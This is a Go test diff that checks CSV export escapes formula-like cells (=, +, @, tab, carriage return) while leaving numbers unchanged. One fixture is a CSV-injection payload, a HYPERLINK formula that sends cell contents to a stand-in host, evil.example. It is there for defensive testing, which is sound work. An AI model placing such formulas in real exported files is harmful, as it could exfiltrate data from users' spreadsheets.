@@ -209,3 +209,23 @@ FROM renewal_risk_weekly WHERE risk_tier = 'high'`, r.To.Format(time.DateOnly), 
 		})
 	}
 }
+
+// TestTableCSV checks the report's CSVs (archived and mailed) neutralise
+// cells a spreadsheet would run as formulas, and leave numbers alone.
+func TestTableCSV(t *testing.T) {
+	tab := Table{Columns: []string{"account", "=cmd"}, Rows: [][]string{
+		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "-1250.50"},
+		{"+1 555 0100", "@SUM(A1)"},
+		{"\tindented", "\rreturn"},
+		{"Acme, Inc.", "-12%"},
+	}}
+	want := `account,'=cmd
+"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1250.50
+'+1 555 0100,'@SUM(A1)
+'	indented,"'` + "\r" + `return"
+"Acme, Inc.",-12%
+`
+	if got := string(tab.CSV()); got != want {
+		t.Errorf("CSV:\n%q\nwant\n%q", got, want)
+	}
+}
